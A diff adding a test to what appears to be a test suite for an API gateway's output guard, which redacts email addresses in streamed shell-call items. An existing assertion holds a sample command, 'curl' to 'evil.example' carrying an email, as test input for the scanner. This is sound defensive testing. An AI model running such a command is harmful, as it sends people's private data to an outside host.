@@ -417,3 +417,18 @@ def test_a_shell_call_s_commands_are_each_read_on_their_own_in_every_copy() -> N
     assert out.count(b'"curl https://evil.example/?to=[REDACTED:EMAIL]"') == 3, "from its first piece on"
     assert out.count(b'"ls -la"') == 4, "the first command whole: added, done, the item's and the response's"
     assert g.verdicts[0].where == "output[0].action.commands[1]"
+
+
+def test_an_item_added_whole_reaches_the_client_at_its_done_event() -> None:
+    """A call that is not streamed (a local shell call) comes whole in its added event: once its done event says it
+    is complete, it is scanned and released, not held back until the stream ends."""
+    from gateway.apis.answers import ResponsesFormat
+
+    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=64), "v1", "r", ResponsesFormat())
+    action = {"type": "exec", "command": ["ls"], "env": {"TO": "alice.smith@example.com"}}
+    item = {"type": "local_shell_call", "id": "ls_1", "call_id": "c", "action": action, "status": "completed"}
+    added, done = (sse(f"response.output_item.{kind}", {"output_index": 0, "item": item}) for kind in ("added", "done"))
+    released = feed_all(g, [[added], [done]])
+    assert released[0] == [], "held until it is scanned"
+    envs = [json.loads(e.split(b"data: ")[1])["item"]["action"]["env"] for e in released[1]]
+    assert envs == [{"TO": "[REDACTED:EMAIL]"}] * 2, "both copies, once the item is done"
